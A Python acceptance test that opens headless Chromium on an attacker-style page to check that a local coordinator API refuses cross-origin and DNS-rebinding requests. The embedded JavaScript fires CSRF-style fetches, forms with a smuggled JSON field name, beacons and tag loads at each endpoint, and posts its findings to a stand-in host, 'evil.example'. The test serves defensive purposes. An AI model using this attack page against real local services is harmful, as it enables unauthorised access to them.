"""A web page in a real browser tries to reach a coordinator of the machine that it is opened on: by its address, and by
a host name of its own that comes to mean that address. No call gets in, and each is in the trail of requests."""

from __future__ import annotations

import contextlib
import json
import queue
import shutil
import socket
import subprocess
import tempfile
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from structlog.testing import capture_logs

from anabranch.coordinator.api import listening
from anabranch.coordinator.api import server as server_api
from anabranch.coordinator.api.audit import AuditedRequest
from anabranch.coordinator.api.openapi import described
from anabranch.coordinator.api.operations import OPERATIONS
from anabranch.coordinator.coordinator import Coordinator
from anabranch.coordinator.store import Store
from anabranch.errors import NotFoundError
from anabranch.protocol.deployment import Program
from tests.acceptance.harness import Workspace
from tests.support.connections import accept
from tests.support.interruption import interruptible
from tests.unit.coordinator.helpers import plan

_SHA = "0" * 64
_NAMES = {"job": "delays", "container": "delays:0:1", "sha256": _SHA}
_PROGRAM = Program(artifact=_SHA, file="delays.py", settings={}, schemas={})
_TOKEN = "a-token-that-no-page-has"
_PATIENCE = 300.0
_EVIL, _REBOUND = "evil.example", "rebound.example"
_REFUSED = {401, 403, 415, 429}

_PAGE = """<!doctype html><title>a page of somebody else's</title><script>
const target = %(target)s, calls = %(calls)s, report = %(report)s, results = [];
async function tried(how, method, path, options) {
  const controller = new AbortController();
  const timer = setTimeout(() => controller.abort(), 20000);
  let said;
  try {
    const answer = await fetch(target + path, {method, signal: controller.signal, ...options});
    said = {type: answer.type, status: answer.status, text: (await answer.text()).slice(0, 200)};
  } catch (error) { said = {failed: String(error)}; }
  clearTimeout(timer);
  results.push({how, method, path, ...said});
}
function form(path, enctype, id) {
  const frame = document.createElement("iframe"); frame.name = id; document.body.append(frame);
  const made = document.createElement("form");
  Object.assign(made, {method: "POST", action: target + path, enctype, target: id});
  const field = document.createElement("input"); field.name = '{"factor": 2, "x": "'; field.value = '"}';
  made.append(field); document.body.append(made); made.submit();
}
async function main() {
  let id = 0;
  for (const [method, path] of calls) {
    const body = method === "GET" ? undefined : "{}";
    await tried("cors", method, path, {body});
    await tried("json", method, path, {body, headers: {"Content-Type": "application/json"}});
    await tried("credentials", method, path, {body, credentials: "include"});
    if (method === "GET" || method === "POST") {
      await tried("no-cors", method, path, {body, mode: "no-cors"});
      await tried("blob", method, path, {body: body && new Blob(["{}"]), mode: "no-cors"});
    }
    if (method === "POST") {
      navigator.sendBeacon(target + path, "{}");
      for (const kind of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
        form(path, kind, "frame" + id++);
    } else if (method === "GET") {
      for (const tag of ["img", "script", "iframe"]) {
        const element = document.createElement(tag); element.src = target + path; document.body.append(element);
      }
    }
  }
  await new Promise(done => setTimeout(done, 3000));
  await fetch(report, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
}
addEventListener("load", main);
</script><body>"""


def browser() -> str:
    """The Chromium of this machine. NotFoundError if there is none."""
    found = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if found is None:
        raise NotFoundError("there is no Chromium here", "install it: apt-get install chromium")
    return found


def drive_by(seed: int, workspace: Workspace) -> str:
    """Odd seeds: the coordinator wants a token."""
    token = _TOKEN if seed % 2 else None
    return "; ".join(tried(workspace.folder, how, token) for how in ("foreign", "rebound"))


def tried(folder: Path, how: str, token: str | None) -> str:
    """Let a page try all calls, from an origin of its own (``foreign``), or one whose name was rebound."""
    coordinator = Coordinator(Store("sqlite://"))
    coordinator.start(plan(program=_PROGRAM))
    before = coordinator.status("delays"), coordinator.events("delays"), [each.job for each in coordinator.jobs()]
    trail = Trail()
    calls = [(each.method, _filled(each.path)) for each in OPERATIONS]
    assert {path for _, path in calls} == {_filled(path) for path in described(OPERATIONS, "0")["paths"]}
    server = listening.Server(server_api.app(coordinator, token=token, trail=trail), listening.listen())
    with contextlib.ExitStack() as stack:
        stack.enter_context(capture_logs())
        stack.callback(server.close)
        attacker = stack.enter_context(_attacking())
        switch = stack.enter_context(_switched(attacker.port))
        report = f"http://{_EVIL}:{attacker.port}/report"
        if how == "foreign":
            target, opened = f"http://127.0.0.1:{server.port}", f"http://{_EVIL}:{attacker.port}/"
        else:
            target, opened = f"http://{_REBOUND}:{switch.port}", f"http://{_REBOUND}:{switch.port}/"
        attacker.page = _PAGE % {name: json.dumps(value) for name, value in _page(target, calls, report).items()}
        attacker.served = lambda: switch.turn(server.port)
        stack.enter_context(_opened(folder, opened))
        results = json.loads(attacker.reports.get(timeout=_PATIENCE))
    after = coordinator.status("delays"), coordinator.events("delays"), [each.job for each in coordinator.jobs()]
    assert after == before, f"{how}: the job was changed"
    _check(how, calls, results, trail.all)
    return f"{how}: {len(results)} calls by script, {len(trail.all)} requests came, all refused"


def _check(
    how: str, calls: list[tuple[str, str]], results: list[dict[str, Any]], requests: list[AuditedRequest]
) -> None:
    assert {(each["method"], each["path"]) for each in results} == set(calls)
    read = [each for each in results if each.get("status") not in {None, 0, *_REFUSED}]
    assert not read, f"{how}: a page has read an answer: {read[0]}"
    if how == "rebound":  # of the same origin, as the browser sees it: each call goes out, and its refusal can be read
        asked = [each for each in results if each["how"] in {"cors", "json", "credentials"}]
        assert [each for each in asked if each.get("status") != 403] == []
    assert {each.status for each in requests} <= _REFUSED, {each.status for each in requests}
    noted = {each.path for each in requests}
    assert {path for _, path in calls} <= noted, {path for _, path in calls} - noted


class Trail:
    """All requests that changed something or were refused."""

    def __init__(self) -> None:
        self.all: list[AuditedRequest] = []

    def take(self, requested: AuditedRequest, /) -> None:
        self.all.append(requested)


@dataclass
class _Attacker:
    """A server that gives a page and takes its report. ``served``: called once the page is out."""

    port: int
    page: str = ""
    served: Any = lambda: None
    reports: queue.Queue[bytes] = field(default_factory=queue.Queue)


@contextlib.contextmanager
def _attacking() -> Iterator[_Attacker]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = attacker.page.encode() if self.path == "/" else b""
            self.send_response(200 if body else 404)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Connection", "close")  # the next request looks the name up again
            self.end_headers()
            self.wfile.write(body)
            if body:
                attacker.served()

        def do_POST(self) -> None:
            attacker.reports.put(self.rfile.read(int(self.headers["Content-Length"])))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    attacker = _Attacker(server.server_address[1])
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield attacker
    finally:
        server.shutdown()
        server.server_close()


class _Switch:
    """A port that leads to another one, and from a moment on to a third: what a rebound name does to a browser."""

    def __init__(self, listener: socket.socket, port: int) -> None:
        self.port = listener.getsockname()[1]
        self._to = port

    def turn(self, port: int) -> None:
        self._to = port

    def lead(self, listener: socket.socket) -> None:
        accept(listener, self._serve)

    def _serve(self, near: socket.socket) -> None:
        first = near.recv(65_536)  # a browser also connects before it has anything to ask
        far = socket.create_connection(("127.0.0.1", self._to))
        far.sendall(first)
        for ends in ((near, far), (far, near)):
            threading.Thread(target=_carry, args=ends, daemon=True).start()


def _carry(source: socket.socket, target: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while data := source.recv(65_536):
            target.sendall(data)
    with contextlib.suppress(OSError):
        target.shutdown(socket.SHUT_WR)


@contextlib.contextmanager
def _switched(port: int) -> Iterator[_Switch]:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        switch = _Switch(listener, port)
        threading.Thread(target=switch.lead, args=(listener,), daemon=True).start()
        yield switch


@contextlib.contextmanager
def _opened(folder: Path, url: str) -> Iterator[None]:
    """A browser that shows a page, in which names of the attacker's mean this machine."""
    rules = f"MAP {_EVIL} 127.0.0.1, MAP {_REBOUND} 127.0.0.1"
    with tempfile.TemporaryDirectory(prefix="anabranch-chromium-", ignore_cleanup_errors=True) as profile:
        words = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]
        words += [f"--user-data-dir={profile}", f"--host-resolver-rules={rules}", url]
        with (folder / "chromium.log").open("ab") as printed:
            process = subprocess.Popen([browser(), *words], stdout=printed, stderr=printed, start_new_session=True)
            try:
                yield
            finally:
                process.terminate()
                try:
                    process.wait(20)
                except subprocess.TimeoutExpired:
                    process.kill()
                    process.wait()


def _page(target: str, calls: list[tuple[str, str]], report: str) -> dict[str, Any]:
    return {"target": target, "calls": calls, "report": report}


def _filled(path: str) -> str:
    for name, value in _NAMES.items():
        path = path.replace(f"{{{name}}}", value)
    return path


def main() -> None:
    """Try it once, with and without a token, and say how it went."""
    interruptible()
    for token in (None, _TOKEN):
        for how in ("foreign", "rebound"):
            with tempfile.TemporaryDirectory() as folder:
                begun = time.monotonic()
                print(tried(Path(folder), how, token), f"({time.monotonic() - begun:.0f} s)", flush=True)


if __name__ == "__main__":
    main()
